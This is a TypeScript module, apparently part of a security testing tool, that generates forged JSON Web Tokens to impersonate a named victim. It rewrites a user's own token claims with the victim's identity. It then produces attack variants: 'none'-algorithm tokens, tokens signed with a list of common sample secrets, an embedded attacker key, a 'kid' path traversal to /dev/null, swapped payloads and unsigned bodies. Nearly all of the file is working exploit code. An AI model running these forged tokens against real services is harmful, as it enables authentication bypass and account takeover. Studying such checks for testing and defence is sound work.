import { createHmac } from 'node:crypto'

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')

/** Secrets that stand in samples, and that people keep. */
const SAMPLE_SECRETS = [
  '',
  'secret',
  'your_jwt_secret',
  'your_secret',
  'your-secret',
  'your-secret-key',
  'your-256-bit-secret',
  'jwt_secret',
  'jwt-secret',
  'my-secret',
  'mysecret',
  'supersecret',
  'super-secret',
  'super_secret_key',
  'changeme',
  'change-me',
  'dev',
  'dev-secret',
  'development',
  'test',
  'password',
  'undefined',
]

/** The parts of a signed token; null for any other. */
export function readJwt(
  token: string,
): { header: Record<string, unknown>; payload: Record<string, unknown>; signature: string } | null {
  const [head = '', body = '', signature, more] = token.split('.')
  if (signature === undefined || more !== undefined) return null
  try {
    const [header, payload] = [head, body].map((part) => JSON.parse(Buffer.from(part, 'base64url').toString()))
    return { header, payload, signature }
  } catch {
    return null
  }
}

/** What a session of somebody would say: as the app's own does, or as samples do. */
export function claimsFor(victim: string, own: { token: string; email: string }): Record<string, unknown> {
  const nowSeconds = Math.floor(Date.now() / 1000)
  const usual = { email: victim, sub: victim, user: { email: victim }, iat: nowSeconds, exp: nowSeconds + 3_600 }
  const jwt = readJwt(own.token)
  return jwt === null ? usual : JSON.parse(JSON.stringify(jwt.payload).replaceAll(own.email, victim))
}

const hs256 = (text: string, secret: string) => createHmac('sha256', secret).update(text).digest('base64url')

function signed(header: Record<string, unknown>, claims: unknown, secret: string): string {
  const text = `${encode(header)}.${encode(claims)}`
  return `${text}.${hs256(text, secret)}`
}

/** Tokens that say they need no signature. */
export function unsignedTokens(claims: unknown, signature: string): string[] {
  const bodies = ['none', 'None', 'NONE', 'nOnE'].map((alg) => `${encode({ alg, typ: 'JWT' })}.${encode(claims)}`)
  return bodies.flatMap((body) => [`${body}.`, body, `${body}.${signature}`])
}

/** Tokens signed with what is in samples. */
export function guessedTokens(claims: unknown): string[] {
  return SAMPLE_SECRETS.map((secret) => signed({ alg: 'HS256', typ: 'JWT' }, claims, secret))
}

/** Tokens that are changed, mixed, or that name their own key. */
export function changedTokens(claims: unknown, own: string, other: string): string[] {
  const [head = '', , ...rest] = own.split('.')
  const ownKey = { kty: 'oct', k: Buffer.from('attacker').toString('base64url') }
  const mixed = own.split('.').map((part, index) => (index === 1 ? (other.split('.')[1] ?? '') : part))
  return [
    [head, encode(claims), ...rest].join('.'),
    [head, encode(claims), ''].join('.'),
    mixed.join('.'),
    signed({ alg: 'HS256', typ: 'JWT', jwk: ownKey }, claims, 'attacker'),
    signed({ alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' }, claims, ''),
    signed({ alg: 'HS256', typ: 'JWT', crit: ['exp'] }, claims, 'attacker'),
    signed({ alg: 'HS256', typ: 'JWT' }, claims, 'attacker'),
    signed({ alg: 'HS512', typ: 'JWT' }, claims, 'attacker'),
    encode(claims),
    encodeURIComponent(JSON.stringify(claims)),
  ].filter((token) => token !== own && token !== other)
}
